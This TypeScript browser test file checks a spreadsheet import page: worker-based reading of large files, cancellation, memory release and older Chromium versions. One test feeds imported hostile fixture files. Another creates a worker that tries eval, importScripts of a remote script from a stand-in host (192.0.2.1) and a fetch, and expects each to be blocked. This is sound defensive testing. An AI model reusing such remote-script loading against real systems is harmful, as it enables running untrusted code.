import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { oldMajorsToTry } from '../../tools/browser/oldBrowsers';
import { csvOf, xlsxOf } from '../../tools/bench/import/files';
import { HOSTILE_FILES } from '../fixtures/sheets/hostile';
import { PATIENCE } from './reading';
import { openApp, openOldApp } from './support';

const INTAKE = '#/data?tab=intake';
const ROWS = 12_000;
const file = (name: string, bytes: Uint8Array) => ({ name, mimeType: '', buffer: Buffer.from(bytes) });

/** The page with each worker that it starts noted, and whether it was ended. */
async function watchWorkers(page: Page): Promise<void> {
  await page.evaluate(() => {
    const log: string[] = [];
    Object.assign(window, { workerLog: log });
    const end = Worker.prototype.terminate;
    window.Worker = class extends Worker {
      constructor(address: string | URL) {
        super(address);
        log.push('started');
      }
      terminate(): void {
        log.push('ended');
        end.call(this);
      }
    };
  });
}
const workerLog = (page: Page) => page.evaluate(() => (window as unknown as { workerLog: string[] }).workerLog);

async function put(page: Page, files: readonly ReturnType<typeof file>[]): Promise<void> {
  await page
    .locator('input[type=file]')
    .first()
    .setInputFiles([...files]);
}

/** Objects with these fields that the page holds once all that nobody needs is thrown away. */
async function heldOf(page: Page, fields: readonly string[]): Promise<number> {
  const session = await page.context().newCDPSession(page);
  const { result } = await session.send('Runtime.evaluate', { expression: 'Object.prototype' });
  const { objects } = await session.send('Runtime.queryObjects', { prototypeObjectId: result.objectId! });
  const { result: count } = await session.send('Runtime.callFunctionOn', {
    objectId: objects.objectId!,
    functionDeclaration: `function () {
      const has = Object.prototype.hasOwnProperty;
      return this.filter((one) => ${JSON.stringify(fields)}.every((field) => has.call(one, field))).length;
    }`
  });
  await session.detach();
  return Number(count.value);
}

describe.each(['http', 'file'] as const)('large files over %s', (via) => {
  it('are read by a worker, one after the other, and the worker ends with its file', async () => {
    const { page } = await openApp({ route: INTAKE, via });
    await watchWorkers(page);
    await put(page, [file('明细.csv', csvOf(ROWS)), file('明细.xlsx', xlsxOf(ROWS))]);
    const read = '第1行起 · 读出12000个数';
    const told = () => page.locator('.intake-table-head .intake-soft').allTextContents();
    // One after the other: the second is waited for once the first is there.
    await expect.poll(async () => (await told())[0], PATIENCE).toBe(read);
    await expect.poll(told, PATIENCE).toEqual([read, read]);
    expect(await page.locator('.intake-file h3').allTextContents()).toEqual([
      expect.stringContaining('明细.csv'),
      expect.stringContaining('明细.xlsx')
    ]);
    expect(await workerLog(page)).toEqual(['started', 'ended', 'started', 'ended']);
  });

  it('are given up when told: the worker ends, and what was there before is there', async () => {
    const { page } = await openApp({ route: INTAKE, via });
    await put(page, [file('先前.csv', Buffer.from('单位,2024年10月门诊人次\n象山县,1200\n'))]);
    await page.getByText('读出1个数').waitFor();
    await watchWorkers(page);
    // The worker waits for ever to be told that its first rows have come.
    await page.evaluate(() => {
      const post = Worker.prototype.postMessage;
      Worker.prototype.postMessage = function (this: Worker, message: { kind: string }) {
        if (message.kind !== 'next') post.call(this, message);
      } as typeof post;
    });
    await put(page, [file('明细.csv', csvOf(ROWS)), file('以后.csv', csvOf(3))]);
    const line = page.locator('.intake-reading');
    await line.getByText('正在读明细.csv').waitFor();
    await expect.poll(() => workerLog(page), PATIENCE).toEqual(['started']);
    await line.getByRole('button', { name: '取消' }).click();
    await line.waitFor({ state: 'detached' });
    expect(await workerLog(page)).toEqual(['started', 'ended']);
    expect(await page.locator('.intake-file h3').allTextContents()).toEqual([expect.stringContaining('先前.csv')]);
    expect(await page.locator('.note-problem').count()).toBe(0);
  });

  it('are read all the same where there is no worker', async () => {
    const { page } = await openApp({ route: INTAKE, via });
    await page.evaluate(() => Reflect.deleteProperty(window, 'Worker'));
    await put(page, [file('明细.xlsx', xlsxOf(ROWS))]);
    await page.getByText('读出12000个数').waitFor();
  });
});

it('a large file is checked to its last row: a source, 200 places, 50 indicators, 12,000 numbers', async () => {
  const { page } = await openApp({ route: INTAKE });
  await put(page, [file('明细.csv', csvOf(ROWS))]);
  await page.getByRole('button', { name: '其余都新建' }).click();
  await page.getByRole('button', { name: '核对', exact: true }).click();
  await page.getByRole('heading', { name: '四、本次变动12,000个数' }).waitFor();
  expect(await page.locator('.intake-step [role=status] strong').textContent()).toContain(
    '新的12,251行，相同0行，和已有的不同0行，不采用0处'
  );
});

it('of a file that is kept the page holds neither its cells nor what was read in them', async () => {
  const { page } = await openApp({ route: INTAKE });
  await put(page, [file('明细.csv', csvOf(ROWS))]);
  await page.getByRole('button', { name: '其余都新建' }).click();
  await page.getByRole('button', { name: '核对', exact: true }).click();
  const keep = page.getByRole('button', { name: '保留', exact: true });
  await keep.waitFor();
  expect(await heldOf(page, ['sheet', 'cell', 'measure'])).toBe(ROWS);
  await keep.click();
  await page.getByText(/^已保留，/).waitFor();
  // Not held for good: seen twice, on a busy machine, to be still there right after it was said; by what isn't known.
  await expect.poll(() => heldOf(page, ['sheet', 'cell', 'measure']), PATIENCE).toBe(0);
  await expect.poll(() => heldOf(page, ['kind', 'shown', 'formula']), PATIENCE).toBe(0);
});

it('files made to do harm are refused or listed by the worker: nothing is run, nothing asked for, the next is read', async () => {
  const { page } = await openApp({ route: INTAKE });
  await watchWorkers(page);
  await put(page, [
    ...HOSTILE_FILES.map(({ name, bytes }) => file(name, bytes)),
    file('好的.csv', Buffer.from('单位,2024年10月门诊人次\n象山县,1200\n'))
  ]);
  const boxes = page.locator('.intake-file');
  await expect.poll(() => boxes.count(), PATIENCE).toBe(HOSTILE_FILES.length + 1);
  await page.locator('.intake-reading').waitFor({ state: 'detached' });
  for (const [i, { name, told }] of HOSTILE_FILES.entries()) {
    const text = await boxes.nth(i).innerText();
    expect(text).toContain(name);
    expect(text).toContain(told);
  }
  expect(await boxes.last().innerText()).toContain('读出1个数');
  expect(await page.evaluate('window.ran')).toBeUndefined();
  expect(await page.locator('.intake-file img, .intake-file script').count()).toBe(0);
  const log = await workerLog(page);
  expect(log.filter((line) => line === 'started')).toHaveLength(HOSTILE_FILES.length + 1);
  expect(log[log.length - 1]).toBe('ended');
});

it('a server whose policy allows no worker from the page does not keep files out', async () => {
  const { page, problems } = await openApp({
    route: INTAKE,
    headers: { 'Content-Security-Policy': "default-src 'self'; img-src 'self' data: blob:" }
  });
  problems.allow(/worker|Worker/);
  await put(page, [file('明细.csv', csvOf(ROWS))]);
  await page.getByText('读出12000个数').waitFor();
});

it('a worker made from text has the policy of the page: nothing is run from text in it, nothing asked for outside', async () => {
  const { page, problems } = await openApp({ route: INTAKE });
  problems.allow(/CSP|Content Security Policy|192\.0\.2\.1/);
  const said = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const text = `
          const said = [];
          try { said.push(String(eval('1+1'))); } catch (error) { said.push(error.name); }
          try { importScripts('http://192.0.2.1/x.js'); said.push('script'); } catch (error) { said.push(error.name); }
          fetch('http://192.0.2.1/').then(() => said.push('fetched'), () => said.push('not fetched')).then(() => postMessage(said));`;
        const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
        worker.onmessage = (event: MessageEvent<string[]>) => resolve(event.data);
      })
  );
  expect(said).toEqual(['EvalError', 'NetworkError', 'not fetched']);
});

describe.each(oldMajorsToTry())('Chromium %i', (major) => {
  let xlsx = '';
  beforeAll(() => {
    xlsx = Buffer.from(xlsxOf(8_000)).toString('base64');
  });

  it.each(['http', 'file'] as const)('reads a workbook in a worker over %s', async (via) => {
    const { page } = await openOldApp(major, { route: INTAKE, via });
    await page.waitFor(`document.querySelector('.intake-drop')`);
    await page.evaluate(`window.started = 0;
      const Plain = Worker;
      window.Worker = function (address) { window.started++; return new Plain(address); };
      const bytes = Uint8Array.from(atob('${xlsx}'), (char) => char.charCodeAt(0));
      const brought = new DataTransfer();
      brought.items.add(new File([bytes], '明细.xlsx'));
      document.querySelector('.intake-drop').dispatchEvent(new DragEvent('drop', { dataTransfer: brought, bubbles: true, cancelable: true })); 0`);
    await page.waitFor(`document.body.innerText.includes('读出8000个数')`);
    expect(await page.evaluate('window.started')).toBe(1);
  });
});
